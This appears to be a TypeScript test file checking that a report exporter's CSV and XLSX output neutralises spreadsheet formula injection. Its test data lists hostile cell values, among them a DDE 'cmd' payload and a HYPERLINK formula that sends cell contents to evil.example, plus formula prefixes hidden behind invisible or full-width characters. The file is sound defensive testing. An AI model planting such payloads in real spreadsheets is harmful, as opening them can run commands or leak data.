import fc from 'fast-check';
import readExcelFile from 'read-excel-file/node';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { csvText, renderReportCsv } from './render-report-csv';
import { renderReportXlsx } from './render-report-xlsx';
import type { ReportPaper } from './report-paper';

/** What makes a spreadsheet compute or call out, as OWASP lists it, plain and behind what a reader does not see. */
const hostile = [
  '=1+1',
  '=cmd|/C calc!A0',
  '=HYPERLINK("http://evil.example?x="&A1;"Klik")',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' \u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '";=1+1',
  'Mirno;=1+1',
  'Mirno,=1+1',
  'Mirno\r\n=1+1',
  'Mirno\n"=1+1',
];
const paperOf = (texts: readonly string[]): ReportPaper => ({
  language: 'sr-Latn',
  country: 'RS',
  organization: '=Firma()',
  currency: 'RSD',
  title: '=Naslov',
  subtitle: '@podnaslov',
  columns: [
    { head: '=Konto', kind: 'code' },
    { head: '+Opis', kind: 'text' },
    { head: 'Iznos', kind: 'amount' },
  ],
  rows: texts.map((text) => ({ kind: 'row', level: 0, cells: [text, text, '-5.00'] })),
  createdOn: '2026-04-01',
});

/** Cells as the spreadsheets of our countries part them. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const sign = csv.charAt(at);
    if (isQuoted && sign === '"' && csv.charAt(at + 1) === '"') {
      cell += '"';
      at += 1;
    } else if (sign === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (sign === ';' || sign === '\n' || sign === '\r')) {
      cells.push(cell);
      cell = '';
    } else cell += sign;
  }
  return [...cells, cell];
}
const begins = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u;
const isFigure = /^-?\d+(,\d+)?$/;

describe('text that begins like a formula', () => {
  it('begins none in CSV, and figures stay figures', () => {
    const csv = renderReportCsv(paperOf(hostile)).toString('utf8').slice(1);
    const found = cellsOf(csv);
    expect(found.length).toBeGreaterThan(hostile.length * 2);
    expect(found.filter((cell) => begins.test(cell) && !isFigure.test(cell))).toEqual([]);
    expect(csv.match(/;-5,00\r\n/g)).toHaveLength(hostile.length);
  });

  it('begins none whatever the text is', () => {
    const piece = fc.oneof(fc.constantFrom(...hostile, ...'=+-@;,"\t\r\n\'＝'), fc.string());
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const cells = cellsOf(csvText(pieces.join('')));
        expect(cells).toHaveLength(1);
        expect(cells.filter((cell) => begins.test(cell))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('is a text cell in XLSX, and no formula is in the file at all', async () => {
    const file = await renderReportXlsx(paperOf(hostile));
    const [sheet] = await readExcelFile(file);
    const texts = (sheet?.data ?? []).slice(-hostile.length);
    expect(texts.every(([code, text]) => typeof code === 'string' && typeof text === 'string')).toBe(true);
    expect(texts.every((cells) => cells[2] === -5)).toBe(true);
    const parts = Object.entries(unzipSync(file)).filter(([name]) => name.endsWith('.xml'));
    expect(parts.length).toBeGreaterThan(3);
    expect(parts.filter(([, part]) => /<f[ >]/.test(strFromU8(part))).map(([name]) => name)).toEqual([]);
  });
});
